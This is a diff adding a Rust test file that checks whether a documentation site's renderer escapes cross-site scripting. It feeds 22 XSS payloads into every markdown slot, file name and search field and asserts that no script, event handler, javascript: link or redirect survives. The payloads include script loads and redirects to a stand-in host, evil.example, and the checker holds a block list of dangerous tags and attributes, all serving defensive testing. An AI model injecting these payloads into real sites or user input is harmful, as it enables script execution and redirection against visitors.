@@ -1,1 +1,190 @@
+//! Payloads in every slot: nothing that a browser would run comes out.
 
+use crate::site::fixture::{answer, body, drawn, page};
+use crate::site::{home_page, missing_page, search_page};
+
+const PAYLOADS: [&str; 22] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><g/onload=alert(2)//</svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"java&#10;script:alert(1)\">x</a>",
+    "<a href=\" &#14; javascript:alert(1)\">x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt&colon;alert(1))",
+    "[x](https://e.example \"\\\" onmouseover=\\\"alert(1)\")",
+    "![x\" onerror=\"alert(1)](x.png)",
+    "</title><script>alert(1)</script>",
+    "\"><script>alert(1)</script>",
+    "<div style=\"background:url(javascript:alert(1))\" onclick=alert(1)>x</div>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(2)></form>",
+    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example><link rel=stylesheet href=//evil.example>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+];
+
+/// Looks at every tag of a page and fails on anything that runs, loads, or leads to where nobody may be led.
+fn assert_harmless(html: &str, slot: &str) {
+    for tag in tags(html) {
+        let name: String = tag.chars().take_while(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
+        let runs = [
+            "script", "iframe", "object", "embed", "svg", "math", "style", "base", "img", "video", "template",
+            "noscript",
+        ];
+        assert!(!runs.contains(&name.as_str()), "{slot}: <{tag}>");
+        let frame = ["form", "input", "button", "meta", "link", "label"].contains(&name.as_str());
+        for (key, value) in super::tags::attributes(tag.get(name.len()..).unwrap_or_default()) {
+            assert!(
+                !key.starts_with("on") && !["style", "formaction", "srcdoc", "http-equiv"].contains(&key.as_str()),
+                "{slot}: <{tag}>"
+            );
+            if ["href", "src", "action"].contains(&key.as_str()) {
+                assert!(!frame || value.starts_with('/') && !value.starts_with("//"), "{slot}: <{tag}>");
+                let plain: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
+                let scheme = plain.split_once(':').filter(|(before, _)| !before.contains(['/', '#', '?']));
+                let allowed = scheme.is_none_or(|(scheme, _)| {
+                    ["http", "https", "mailto"].contains(&scheme.to_ascii_lowercase().as_str())
+                });
+                assert!(allowed, "{slot}: <{tag}>");
+            }
+        }
+    }
+}
+
+/// Every tag of a text, from its name to its `>`. Since `<` is escaped in text and `"` in values, this is exact for
+/// what our templates write, and the stricter for what they should not.
+fn tags(html: &str) -> Vec<&str> {
+    let mut tags = Vec::new();
+    for (at, _) in html.match_indices('<') {
+        let rest = html.get(at + 1..).unwrap_or_default();
+        let mut quoted = false;
+        let end = rest.bytes().position(|byte| {
+            quoted ^= byte == b'"';
+            byte == b'>' && !quoted
+        });
+        let tag = rest.get(..end.unwrap_or(rest.len())).unwrap_or_default();
+        if tag.starts_with(|c: char| c.is_ascii_alphabetic()) {
+            tags.push(tag);
+        }
+    }
+    tags
+}
+
+#[test]
+fn the_checker_sees_what_runs() {
+    for bad in [
+        "<p onclick=x>",
+        "<script>",
+        "<a href=\"javascript:x\">",
+        "<p style=\"x\">",
+        "<a href=\"java\tscript:x\">",
+        "<img src=x>",
+    ] {
+        assert!(std::panic::catch_unwind(|| assert_harmless(bad, "")).is_err(), "{bad}");
+    }
+}
+
+#[test]
+fn nothing_runs_whatever_stands_in_a_document() {
+    for payload in PAYLOADS {
+        let yaml = payload.replace('\\', "\\\\").replace('"', "\\\"");
+        for (slot, text) in [
+            ("body", payload.to_owned()),
+            ("inline", format!("a {payload} b")),
+            ("heading", format!("# x\n\n## {payload}\n\ntext")),
+            ("first heading", format!("# {payload}\n\n## two\n\n## three")),
+            ("link text", format!("[{payload}](https://example.org)")),
+            ("link target", format!("[x](<{payload}>)")),
+            ("link title", format!("[x](https://example.org '{payload}')")),
+            ("alt", format!("![{payload}](x.png)")),
+            ("wiki link", format!("[[{payload}]] ![[{payload}]]")),
+            ("callout", format!("> [!{payload}] {payload}\n> {payload}")),
+            ("code", format!("```{payload}\n{payload}\n```\n`{payload}`")),
+            ("table", format!("| {payload} |\n| --- |\n| {payload} |")),
+            ("footnote", format!("x[^{payload}]\n\n[^{payload}]: {payload}")),
+            ("math", format!("$ {payload} $ $${payload}$$")),
+            (
+                "front matter",
+                format!(
+                    "---\ntitle: \"{yaml}\"\nowner: \"{yaml}\"\ndescription: \"{yaml}\"\ntype: \"{yaml}\"\ntags: [\"{yaml}\"]\nlang: \"{yaml}\"\nupdated: \"{yaml}\"\nverified: [{{by: \"{yaml}\", at: \"{yaml}\"}}]\nstatus: superseded\nsuperseded_by: \"{yaml}\"\nreview_every: \"{yaml}\"\n---\nx"
+                ),
+            ),
+        ] {
+            let html = page(&[("playbook/page.md", &text), ("playbook/other.md", "[x](page.md)")], "/playbook/page");
+            assert_harmless(&html, &format!("{slot}: {payload}"));
+            assert_eq!(html.matches("<h1").count(), 1, "{slot}: {payload}");
+        }
+    }
+}
+
+#[test]
+fn nothing_runs_whatever_a_file_is_called_or_a_reader_asks() {
+    for payload in PAYLOADS {
+        // An id has no backslash.
+        let name = payload.replace('/', "∕").replace('\\', "");
+        let path = format!("playbook/{name}/{name}.md");
+        let files = [(path.as_str(), payload), ("playbook/README.md", payload), ("journeys/x.md", "x")];
+        for html in [
+            drawn(&files, home_page::draw).unwrap(),
+            drawn(&files, |view| missing_page::draw(view, payload)),
+            drawn(&files, |view| search_page::draw(view, payload, None, Some(payload))),
+            drawn(&files, |view| {
+                let mut answer = answer(view);
+                for passage in &mut answer.passages {
+                    passage.snippet.text = payload.to_owned();
+                    passage.snippet.hits = std::iter::once(0..payload.len() / 2).collect();
+                    passage.headings = vec![payload.to_owned()];
+                    passage.citation.anchor = payload.to_owned();
+                }
+                search_page::draw(view, payload, Some(&answer), None)
+            }),
+        ] {
+            assert_harmless(&html.into_string(), payload);
+        }
+        assert_harmless(&page(&files, &format!("/playbook/{name}/{name}")), payload);
+        assert_harmless(&page(&files, &format!("/playbook/{name}")), payload);
+    }
+}
+
+#[test]
+fn deep_nesting_is_flattened_in_no_time() {
+    let started = std::time::Instant::now();
+    for (what, text) in [
+        ("quotes", ">".repeat(50_000) + " deep"),
+        ("spaced quotes", "> ".repeat(25_000) + "deep"),
+        ("lists", "- ".repeat(3_000) + "deep"),
+        ("elements", "<div>".repeat(10_000) + "deep"),
+        ("elements that close others", "<div></b>".repeat(6_000) + "deep"),
+        ("inline", "<b><i>".repeat(8_000) + "deep"),
+        ("strong", "**a ".repeat(10_000) + "deep" + &" b**".repeat(10_000)),
+        ("brackets", "[".repeat(50_000) + "deep"),
+        ("tables", "<table><tr><td>".repeat(4_000) + "deep"),
+    ] {
+        let html = body(&text);
+        assert!(html.contains("deep"), "{what} lost its text");
+        let mut depth = 0_i32;
+        let deepest = tags_and_ends(&html)
+            .map(|step| {
+                depth += step;
+                depth
+            })
+            .max()
+            .unwrap_or(0);
+        // HTML puts a `tbody` into each table that has none.
+        assert!(deepest <= 150, "{what} nests {deepest} deep");
+    }
+    assert!(started.elapsed().as_secs() < 30, "{:?}", started.elapsed());
+}
+
+fn tags_and_ends(html: &str) -> impl Iterator<Item = i32> {
+    html.match_indices('<').filter_map(|(at, _)| {
+        let rest = html.get(at + 1..)?;
+        let void = ["br", "hr", "wbr"].iter().any(|name| rest.starts_with(name));
+        (!void).then(|| if rest.starts_with('/') { -1 } else { 1 })
+    })
+}
